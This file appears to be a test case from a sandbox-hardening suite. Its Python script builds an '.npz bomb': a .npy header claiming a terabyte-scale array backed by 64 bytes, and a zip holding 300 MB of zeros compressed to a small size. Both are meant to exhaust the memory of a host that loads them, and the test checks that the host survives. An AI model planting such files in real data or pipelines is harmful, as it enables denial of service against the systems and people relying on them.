# /// case
# id = "H42c"
# title = ".npz bomb"
# tries = "makes the host that loads its arrays run out of memory: a shape of a terabyte, zeros packed a thousandfold"
# limits = { wall_s = 15 }
# collect = ["arrays.npz", "huge.npy"]
# host_step = "array"
# endings = ["ok"]
# proof = "the tripwire on the host is not touched when the host works in the folder"
# watches = ["tripwire"]
# unconfined = "not run: the host's own step decides, with any tier"
# ///
import zipfile


def header(shape):
    text = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}".encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text


with open("huge.npy", "wb") as sink:
    sink.write(header("(1000000, 1000000)") + b"\0" * 64)
with zipfile.ZipFile("arrays.npz", "w", zipfile.ZIP_DEFLATED) as archive, archive.open("a.npy", "w", force_zip64=True) as part:
    part.write(header(f"({300 * 1024 * 1024 // 8},)"))
    for _ in range(300):
        part.write(b"\0" * (1024 * 1024))
